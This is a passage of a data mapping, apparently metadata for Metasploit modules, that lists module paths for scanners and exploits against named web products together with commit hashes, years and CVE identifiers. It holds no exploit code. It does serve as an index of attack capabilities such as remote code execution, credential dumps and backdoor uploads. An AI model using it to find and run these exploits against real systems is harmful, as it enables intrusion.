 'modules/auxiliary/scanner/http/fortimail_login_bypass_detection.rb': ('62a3f73e70abd04f4845eec440ddd7f654602d20', '-', 'CVE-2020-9294'),
 'modules/auxiliary/scanner/http/frontpage_credential_dump.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', '-'),
 'modules/auxiliary/scanner/http/gitlab_user_enum.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2014', '-'),
 'modules/auxiliary/scanner/http/goahead_traversal.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', 'CVE-2014-9707'),
 'modules/auxiliary/scanner/http/groupwise_agents_http_traversal.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '-', 'CVE-2012-0419'),
 'modules/auxiliary/scanner/http/hp_imc_som_file_download.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', 'CVE-2013-4826'),
 'modules/auxiliary/scanner/http/hp_sitescope_getfileinternal_fileaccess.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '-', '-'),
 'modules/auxiliary/scanner/http/jenkins_command.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', 'CVE-2015-8103'),
 'modules/auxiliary/scanner/http/jenkins_enum.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', '-'),
 'modules/auxiliary/scanner/http/joomla_ecommercewd_sqli_scanner.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2015', 'CVE-2015-2562'),
 'modules/auxiliary/scanner/http/joomla_pages.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '-', '-'),
 'modules/auxiliary/scanner/http/joomla_plugins.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '-', '-'),
 'modules/auxiliary/scanner/http/litellm_proxy_sqli.rb': ('11203246de77128c624e4093957fb0270dfcc65c', '2026', 'CVE-2026-42208'),
 'modules/auxiliary/scanner/http/majordomo2_directory_traversal.rb': ('e5e8a6578f702dc6e2cfacaa0762db48978d0714', '2011', 'CVE-2011-0049,CVE-2011-0063'),
 'modules/auxiliary/scanner/http/manageengine_securitymanager_traversal.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2012', '-'),
 'modules/auxiliary/scanner/http/meteocontrol_weblog_extractadmin.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '-', 'CVE-2016-2296,CVE-2016-2298'),
 'modules/auxiliary/scanner/http/nginx_source_disclosure.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '-', 'CVE-2010-2263'),
 'modules/auxiliary/scanner/http/novell_mdm_creds.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '-', 'CVE-2013-1081'),
 'modules/auxiliary/scanner/http/ollama_info.rb': ('05256aaa67424a359cfce1ed0fb0496138b3814a', '-', '-'),
 'modules/auxiliary/scanner/http/oracle_demantra_database_credentials_leak.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2014', 'CVE-2013-5795,CVE-2013-5880'),
 'modules/auxiliary/scanner/http/oracle_demantra_file_retrieval.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2014', 'CVE-2013-5877,CVE-2013-5880'),
 'modules/auxiliary/scanner/http/rails_mass_assignment.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '-', '-'),
 'modules/auxiliary/scanner/http/redoc_exposed.rb': ('33244f66f0786919395bdb9ab216d5fde4e8149c', '-', '-'),
 'modules/auxiliary/scanner/http/rfcode_reader_enum.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '-', '-'),
 'modules/auxiliary/scanner/http/s40_traversal.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2011', 'CVE-2011-10009'),
 'modules/auxiliary/scanner/http/sap_businessobjects_user_enum.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '-', '-'),
 'modules/auxiliary/scanner/http/smt_ipmi_49152_exposure.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2014', '-'),
 'modules/auxiliary/scanner/http/strapi_3_password_reset.rb': ('f3b07d5a494f339c6e10d1ad9b5b5e3413537d77', '2022', 'CVE-2019-18818'),
 'modules/auxiliary/scanner/http/syncovery_linux_token_cve_2022_36536.rb': ('f3b07d5a494f339c6e10d1ad9b5b5e3413537d77', '2022', 'CVE-2022-36536'),
 'modules/auxiliary/scanner/http/titan_ftp_admin_pwd.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '-', 'CVE-2013-1625'),
 'modules/auxiliary/scanner/http/wordpress_cp_calendar_sqli.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2015', 'CVE-2014-8586'),
 'modules/auxiliary/scanner/http/zenworks_assetmanagement_fileaccess.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '-', 'CVE-2012-4933'),
 'modules/auxiliary/scanner/http/zenworks_assetmanagement_getconfig.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '-', 'CVE-2012-4933'),
 'modules/exploits/linux/http/acronis_cyber_infra_cve_2023_45249.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2024', 'CVE-2023-45249'),
 'modules/exploits/linux/http/airties_login_cgi_bof.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2015', 'CVE-2015-2797'),
 'modules/exploits/linux/http/alienvault_exec.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2017', 'CVE-2016-8582'),
 'modules/exploits/linux/http/apache_continuum_cmd_exec.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2016', '-'),
 'modules/exploits/linux/http/apache_nifi_h2_rce.rb': ('f467e0747ad277cb3984a87e5d59690fbea399a3', '2023', 'CVE-2023-34468'),
 'modules/exploits/linux/http/apache_solr_backup_restore.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2024', 'CVE-2023-50386'),
 'modules/exploits/linux/http/artica_proxy_auth_bypass_service_cmds_peform_command_injection.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2020', 'CVE-2020-17505,CVE-2020-17506'),
 'modules/exploits/linux/http/artica_proxy_unauth_rce_cve_2024_2054.rb': ('52ca58ba5ff33bce8faddc25471dc0678ab1e34c', '2024', 'CVE-2024-2054'),
 'modules/exploits/linux/http/atutor_filemanager_traversal.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2016', 'CVE-2016-2555,CVE-2017-1000002'),
 'modules/exploits/linux/http/axis_srv_parhand_rce.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2018', 'CVE-2018-10660,CVE-2018-10661,CVE-2018-10662'),
 'modules/exploits/linux/http/belkin_login_bof.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2014', 'CVE-2014-1635'),
 'modules/exploits/linux/http/bentoml_rce_cve_2025_27520.rb': ('f41eda112864c6485b4007724e4ca6021a9f873a', '2025', 'CVE-2025-27520'),
 'modules/exploits/linux/http/bludit_upload_images_exec.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '-', 'CVE-2019-16113'),
 'modules/exploits/linux/http/centreon_useralias_exec.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2016', '-'),
 'modules/exploits/linux/http/cfme_manageiq_evm_upload_exec.rb': ('e5e8a6578f702dc6e2cfacaa0762db48978d0714', '2013', 'CVE-2013-2068'),
 'modules/exploits/linux/http/cisco_hyperflex_file_upload_rce.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2021', 'CVE-2021-1499'),
 'modules/exploits/linux/http/cisco_prime_inf_rce.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2018', 'CVE-2018-15379'),
 'modules/exploits/linux/http/cisco_rv340_lan.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2021', 'CVE-2022-20705,CVE-2022-20707'),
 'modules/exploits/linux/http/cisco_rv_series_authbypass_and_rce.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2021', 'CVE-2021-1472,CVE-2021-1473'),
 'modules/exploits/linux/http/cisco_ucs_cloupia_script_rce.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2020', 'CVE-2020-3243,CVE-2020-3250'),
 'modules/exploits/linux/http/cisco_ucs_rce.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2019', 'CVE-2019-1936,CVE-2019-1937'),
 'modules/exploits/linux/http/control_web_panel_api_cmd_exec.rb': ('2809ff8235fb090c1d0803e245a1ee38c45a5056', '2025', 'CVE-2025-67888'),
 'modules/exploits/linux/http/cve_2019_1663_cisco_rmi_rce.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2019', 'CVE-2019-1663'),
 'modules/exploits/linux/http/dcos_marathon.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2017', 'CVE-2017-20198'),
 'modules/exploits/linux/http/dlink_command_php_exec_noauth.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2013', 'CVE-2013-10048'),
 'modules/exploits/linux/http/dlink_dir850l_unauth_exec.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2017', 'CVE-2019-17508'),
 'modules/exploits/linux/http/dlink_hnap_bof.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2014', 'CVE-2014-3936'),
 'modules/exploits/linux/http/dnalims_admin_exec.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2017', 'CVE-2017-6526'),
 'modules/exploits/linux/http/docker_daemon_tcp.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2017', '-'),
 'modules/exploits/linux/http/dtale_rce_cve_2025_0655.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2025', 'CVE-2024-3408,CVE-2025-0655'),
 'modules/exploits/linux/http/eclipse_che_machine_exec_rce.rb': ('1f55aa724a0c6893334eefcc50e29f12d7b09d45', '2025', 'CVE-2025-12548'),
 'modules/exploits/linux/http/efw_chpasswd_exec.rb': ('602adeb4c5404cf9566da2beec28da2b28e91e8b', '2015', 'CVE-2015-5082'),
 'modules/exploits/linux/http/eyesofnetwork_autodiscovery_rce.rb': ('a4b14d8b644f34a9fd894f59c32bbe1d79407ac7', '2020', 'CVE-2020-8654,CVE-2020-8655,CVE-2020-8656,CVE-2020-8657,CVE-2020-9465'),
 'modules/exploits/linux/http/flir_ax8_unauth_rce_cve_2022_37061.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2022', 'CVE-2022-37061'),
 'modules/exploits/linux/http/geutebruck_instantrec_bof.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2021', 'CVE-2021-33549'),
 'modules/exploits/linux/http/github_enterprise_secret.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2017', 'CVE-2017-18365'),
 'modules/exploits/linux/http/goautodial_3_rce_command_injection.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2015', 'CVE-2015-2843,CVE-2015-2845'),
 'modules/exploits/linux/http/gravcms_exec.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2021', 'CVE-2021-21425'),
 'modules/exploits/linux/http/hp_van_sdn_cmd_inject.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2018', '-'),
 'modules/exploits/linux/http/hpe_oneview_rce.rb': ('0c947d05ab544fb696079cfa2271acf288764619', '2025', 'CVE-2025-37164'),
 'modules/exploits/linux/http/huawei_hg532n_cmdinject.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2017', '-'),
 'modules/exploits/linux/http/ibm_drm_rce.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2020', 'CVE-2020-4427,CVE-2020-4428,CVE-2020-4429'),
 'modules/exploits/linux/http/ibm_qradar_unauth_rce.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2018', 'CVE-2016-9722,CVE-2018-1418,CVE-2018-1612'),
 'modules/exploits/linux/http/imperva_securesphere_exec.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2018', 'CVE-2018-16660'),
 'modules/exploits/linux/http/invoiceninja_unauth_rce_cve_2024_55555.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2024', 'CVE-2024-55555'),
 'modules/exploits/linux/http/invoiceshelf_unauth_rce_cve_2024_55556.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2024', 'CVE-2024-55556'),
 'modules/exploits/linux/http/ivanti_connect_secure_stack_overflow_rce_cve_2025_22457.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2025', 'CVE-2025-22457'),
 'modules/exploits/linux/http/jenkins_cli_deserialization.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2017', 'CVE-2017-1000353'),
 'modules/exploits/linux/http/kaltura_unserialize_cookie_rce.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2017', 'CVE-2017-14143'),
 'modules/exploits/linux/http/kloxo_sqli.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2014', 'CVE-2014-125123'),
 'modules/exploits/linux/http/linksys_apply_cgi.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2005', 'CVE-2005-2799'),
 'modules/exploits/linux/http/linksys_themoon_exec.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2014', 'CVE-2025-34037'),
 'modules/exploits/linux/http/linuxki_rce.rb': ('2cbb3942b65a8ca15a851aa6c842c2976e73a24e', '2020', 'CVE-2020-7209'),
 'modules/exploits/linux/http/nagios_xi_chained_rce.rb': ('3bee31ff5e3f53d66612628abaae1377045e6e7e', '2016', 'CVE-2018-8733,CVE-2018-8734,CVE-2018-8735,CVE-2018-8736'),
 'modules/exploits/linux/http/nagios_xi_chained_rce_2_electric_boogaloo.rb': ('c38f6b4858a92de35d0b5985ecf7fd73de5f00ae', '2018', 'CVE-2018-8733,CVE-2018-8734,CVE-2018-8735,CVE-2018-8736'),
 'modules/exploits/linux/http/opendcim_install_sqli_rce.rb': ('ee2ee34b9e75958f24c84c482bc6d7f7b55e086a', '2026', 'CVE-2026-28515,CVE-2026-28516,CVE-2026-28517'),
 'modules/exploits/linux/http/pandora_fms_exec.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2014', 'CVE-2014-125124'),
 'modules/exploits/linux/http/panos_op_cmd_exec.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2020', 'CVE-2020-2038'),
 'modules/exploits/linux/http/panos_readsessionvars.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2017', 'CVE-2017-15944'),
 'modules/exploits/linux/http/skyvern_ssti_cve_2025_49619.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2025', 'CVE-2025-49619'),
 'modules/exploits/linux/http/sonicwall_sma1000_wsproxy_rce.rb': ('524ee317eebc5fdd0b549589c877f558f29b4cc6', '2026', 'CVE-2026-15409'),
 'modules/exploits/linux/http/sophos_utm_webadmin_sid_cmd_injection.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2020', 'CVE-2020-25223'),
 'modules/exploits/linux/http/sourcegraph_gitserver_sshcmd.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2022', 'CVE-2022-23642'),
 'modules/exploits/linux/http/spark_unauth_rce.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2017', 'CVE-2018-11770'),
 'modules/exploits/linux/http/supervisor_xmlrpc_exec.rb': ('c38f6b4858a92de35d0b5985ecf7fd73de5f00ae', '2017', 'CVE-2017-11610'),
 'modules/exploits/linux/http/symantec_web_gateway_pbcontrol.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2012', 'CVE-2012-2953'),
 'modules/exploits/linux/http/ubiquiti_airos_file_upload.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2016', 'CVE-2015-9266'),
 'modules/exploits/linux/http/vap2500_tools_command_exec.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2014', 'CVE-2014-8423,CVE-2014-8424'),
 'modules/exploits/linux/http/vcms_upload.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2011', 'CVE-2011-4828'),
 'modules/exploits/linux/http/vinchin_backup_recovery_cmd_inject.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2023', 'CVE-2023-45498,CVE-2023-45499'),
 'modules/exploits/linux/http/vmware_vrli_rce.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2023', 'CVE-2022-31704,CVE-2022-31706,CVE-2022-31711'),
 'modules/exploits/linux/http/wd_mycloud_unauthenticated_cmd_injection.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2016', 'CVE-2016-10108,CVE-2018-17153'),
 'modules/exploits/linux/http/webcalendar_settings_exec.rb': ('19d333df13dc33e46dcb717848e6dcf168318ad1', '2012', 'CVE-2012-1495'),
 'modules/exploits/linux/http/zimbra_cpio_cve_2022_41352.rb': ('b7cf112d42bc4fa9717f420c3f14fdc2c83afa67', '2022', 'CVE-2022-41352'),
 'modules/exploits/linux/http/zimbra_unrar_cve_2022_30333.rb': ('ddaf5a3f0db40d40ecb21ed0983e24efd3fc31e6', '2022', 'CVE-2022-30333'),
 'modules/exploits/linux/http/zyxel_lfi_unauth_ssh_rce.rb': ('3bee31ff5e3f53d66612628abaae1377045e6e7e', '2022', 'CVE-2023-28770'),
 'modules/exploits/linux/http/zyxel_parse_config_rce.rb': ('b67f05f50dcaaa53d2c91b93cdc56d187a288f37', '2024', 'CVE-2023-33012'),
 'modules/exploits/multi/http/ajaxplorer_checkinstall_exec.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2010', 'CVE-2010-10013'),
 'modules/exploits/multi/http/apache_flink_jar_upload_exec.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2019', '-'),
 'modules/exploits/multi/http/auxilium_upload_exec.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2012', 'CVE-2012-10038'),
 'modules/exploits/multi/http/avideo_wwbnindex_unauth_rce.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2024', 'CVE-2024-31819'),
 'modules/exploits/multi/http/bassmaster_js_injection.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2016', 'CVE-2014-7205'),
 'modules/exploits/multi/http/builderengine_upload_exec.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2016', 'CVE-2025-34100'),
 'modules/exploits/multi/http/churchcrm_install_unauth_rce.rb': ('6154d53e9aea5902f3c3599b46cca39b9ef87193', '2025', 'CVE-2025-62521'),
 'modules/exploits/multi/http/cisco_dcnm_upload.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2013', 'CVE-2013-5486'),
 'modules/exploits/multi/http/clinic_pms_fileupload_rce.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2022', 'CVE-2022-40471'),
 'modules/exploits/multi/http/clipbucket_fileupload_exec.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2018', 'CVE-2018-7665'),
 'modules/exploits/multi/http/cockpit_cms_rce.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2021', 'CVE-2020-35846,CVE-2020-35847'),
 'modules/exploits/multi/http/coldfusion_ckeditor_file_upload.rb': ('602adeb4c5404cf9566da2beec28da2b28e91e8b', '2018', 'CVE-2018-15961'),
 'modules/exploits/multi/http/dompdf_rce_cve_2022_28368.rb': ('75f7563c5a508480e27d435371a353c795da8e09', '2022', 'CVE-2022-28368'),
 'modules/exploits/multi/http/eventlog_file_upload.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2014', 'CVE-2014-6037'),
 'modules/exploits/multi/http/familycms_less_exec.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2011', 'CVE-2011-5130'),
 'modules/exploits/multi/http/flowise_auth_rce_cve_2026_41264.rb': ('45394b3a962055008dcb8b63ed134aa5547517ce', '2026', 'CVE-2026-41264'),
 'modules/exploits/multi/http/freenas_exec_raw.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2010', 'CVE-2010-20059'),
 'modules/exploits/multi/http/freescout_htaccess_rce.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2026', 'CVE-2026-27636,CVE-2026-28289'),
 'modules/exploits/multi/http/gambio_unauth_rce_cve_2024_23759.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2024', 'CVE-2024-23759'),
 'modules/exploits/multi/http/gestioip_exec.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2013', 'CVE-2013-10039'),
 'modules/exploits/multi/http/ghostcms_auth_rce_cve_2026_29053.rb': ('8034ef094dd475f324d5c18f0a6bb104dc0dac84', '2026', 'CVE-2026-22594,CVE-2026-29053'),
 'modules/exploits/multi/http/gitorious_graph.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2012', '-'),
 'modules/exploits/multi/http/hp_sitescope_uploadfileshandler.rb': ('602adeb4c5404cf9566da2beec28da2b28e91e8b', '2012', 'CVE-2012-3260,CVE-2012-3261'),
 'modules/exploits/multi/http/jboss_invoke_deploy.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2007', 'CVE-2007-1036'),
 'modules/exploits/multi/http/jenkins_script_console.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2013', '-'),
 'modules/exploits/multi/http/jenkins_xstream_deserialize.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2016', 'CVE-2016-0792'),
 'modules/exploits/multi/http/joomla_com_jce_unauth_file_upload_rce.rb': ('ba49695c3185d7501827a301ad2cd76beff144c9', '2026', 'CVE-2026-48907'),
 'modules/exploits/multi/http/kong_gateway_admin_api_rce.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2020', '-'),
 'modules/exploits/multi/http/langflow_rce_cve_2026_27966.rb': ('f54374eaff7223482dc9c428dcfcafb21f85fed6', '2026', 'CVE-2026-27966'),
 'modules/exploits/multi/http/lucee_scheduled_job.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2023', 'CVE-2025-34074'),
 'modules/exploits/multi/http/magento_unserialize.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2016', 'CVE-2016-4010'),
 'modules/exploits/multi/http/majordomo_cmd_injection_rce.rb': ('615ca34e299836397e533d12f10b98f7d8b21445', '2026', 'CVE-2026-27175'),
 'modules/exploits/multi/http/makoserver_cmd_exec.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2017', 'CVE-2025-34095'),
 'modules/exploits/multi/http/manage_engine_dc_pmp_sqli.rb': ('0923824f45cb3f89852c8956588c88b033bbf32d', '2014', 'CVE-2014-3996'),
 'modules/exploits/multi/http/manageengine_search_sqli.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2012', '-'),
 'modules/exploits/multi/http/mma_backdoor_upload.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2012', '-'),
 'modules/exploits/multi/http/navigate_cms_rce.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2018', 'CVE-2018-17552,CVE-2018-17553'),
 'modules/exploits/multi/http/open_web_analytics_rce.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2022', 'CVE-2022-24637'),
 'modules/exploits/multi/http/opencats_installer_rce.rb': ('840de4db39400dbc7b1a9f8fc04becddb3a0530f', '2026', 'CVE-2026-27760'),
 'modules/exploits/multi/http/openmrs_deserialization.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2019', 'CVE-2018-19276'),
 'modules/exploits/multi/http/oracle_access_manager_rce_cve_2021_35587.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2022', 'CVE-2021-35587'),
 'modules/exploits/multi/http/oracle_ats_file_upload.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2016', '-'),
 'modules/exploits/multi/http/oracle_reports_rce.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2014', 'CVE-2012-3152,CVE-2012-3153'),
 'modules/exploits/multi/http/os_cmd_exec.rb': ('b59ced50579d051c5051683e071a457e63f2fd92', '2026', '-'),
 'modules/exploits/multi/http/oscommerce_installer_unauth_code_exec.rb': ('0923824f45cb3f89852c8956588c88b033bbf32d', '2018', 'CVE-2018-25114'),
 'modules/exploits/multi/http/pentaho_business_server_authbypass_and_ssti.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2023', 'CVE-2022-43769,CVE-2022-43939'),
 'modules/exploits/multi/http/phoenix_exec.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2016', '-'),
 'modules/exploits/multi/http/phpmyadmin_3522_backdoor.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2012', 'CVE-2012-5159'),
 'modules/exploits/multi/http/phpscheduleit_start_date.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2008', 'CVE-2008-6132'),
 'modules/exploits/multi/http/phpstudy_backdoor_rce.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2019', 'CVE-2025-34061'),
 'modules/exploits/multi/http/pmwiki_pagelist.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2011', 'CVE-2011-4453'),
 'modules/exploits/multi/http/rails_dynamic_render_code_exec.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2016', 'CVE-2016-0752'),
 'modules/exploits/multi/http/rails_json_yaml_code_exec.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2013', 'CVE-2013-0333'),
 'modules/exploits/multi/http/rails_secret_deserialization.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2013', 'CVE-2013-0156'),
 'modules/exploits/multi/http/rails_web_console_v2_code_exec.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2015', 'CVE-2015-3224'),
 'modules/exploits/multi/http/shiro_rememberme_v124_deserialize.rb': ('c15d513766432139816e945a6424f1348a6e284a', '2016', 'CVE-2016-4437'),
 'modules/exploits/multi/http/sonicwall_gms_upload.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2012', 'CVE-2013-1359'),
 'modules/exploits/multi/http/sonicwall_shell_injection_cve_2023_34124.rb': ('b12fe743d0b6bd8f27de4f941cfe5bdbc78433f4', '2023', 'CVE-2023-34124,CVE-2023-34127,CVE-2023-34132,CVE-2023-34133'),
 'modules/exploits/multi/http/spip_connect_exec.rb': ('0745cc65472b95396d1d0033bd5aa36eb9ff623a', '2012', 'CVE-2013-4557'),
 'modules/exploits/multi/http/spree_search_exec.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2011', 'CVE-2011-10019'),
 'modules/exploits/multi/http/spree_searchlogic_exec.rb': ('fd21209e4d38ca374b40b4d7963bed7b7ccc5821', '2011', 'CVE-2011-10026'),
 'modules/exploits/multi/http/struts_code_exec.rb': ('b743296f48f6c42cbf328eee29ad41e889797a07', '2010', 'CVE-2010-1870'),
 'modules/exploits/multi/http/struts_code_exec_exception_delegator.rb': ('b743296f48f6c42cbf328eee29ad41e889797a07', '2012', 'CVE-2012-0391'),
 'modules/exploits/multi/http/stunshell_eval.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2013', '-'),
 'modules/exploits/multi/http/sysaid_rdslogs_file_upload.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2015', 'CVE-2015-2995'),
 'modules/exploits/multi/http/totaljs_cms_widget_exec.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2019', 'CVE-2019-15954'),
 'modules/exploits/multi/http/traq_plugin_exec.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2011', 'CVE-2011-10013'),
 'modules/exploits/multi/http/v0pcr3w_exec.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2013', '-'),
 'modules/exploits/multi/http/visual_mining_netcharts_upload.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2014', 'CVE-2014-8516'),
 'modules/exploits/multi/http/vtiger_install_rce.rb': ('a454217bd4840a2d0e471c7a685665594a24417e', '2014', 'CVE-2014-2268'),
 'modules/exploits/multi/http/web_check_screenshot_rce.rb': ('7b1e7d5320b39c692af039fccd8e7612e6db2bbd', '2025', 'CVE-2025-32778'),
 'modules/exploits/multi/http/webdav_upload_php.rb': ('419e45cedce58ad838299c6a26c7fc2b5acb6578', '2012', 'CVE-2012-10062'),
 'modules/exploits/multi/http/wp_batch_desync_rce.rb': ('c77c410386ae8fdc37592c93221d879cd15c47a0', '2026', 'CVE-2026-60137,CVE-2026-63030'),
 'modules/exploits/multi/http/wp_plugin_supsystic_contact_form_rce.rb': ('0923824f45cb3f89852c8956588c88b033bbf32d', '2026', 'CVE-2026-4257'),
 'modules/exploits/multi/http/wp_tatsu_rce.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2022', 'CVE-2021-25094'),
 'modules/exploits/multi/http/xerte_unauthenticated_importlanguage.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2025', '-'),
 'modules/exploits/multi/http/xerte_unauthenticated_mediaupload.rb': ('6d7c49e52d2c2e7cab2cda2dad931cd50a00bbcc', '2026', 'CVE-2026-34413,CVE-2026-34414,CVE-2026-34415,CVE-2026-41459'),
 'modules/exploits/multi/http/zenworks_configuration_management_upload.rb': ('96a37da14ae8145a7114acb92874b3cc4919370b', '2015', 'CVE-2015-0779'),
 'modules/exploits/unix/webapp/aerohive_netconfig_lfi_log_poison_rce.rb': ('8945267db6e64c2524a8115848afb9c639777dd7', '2020', 'CVE-2020-16152'),
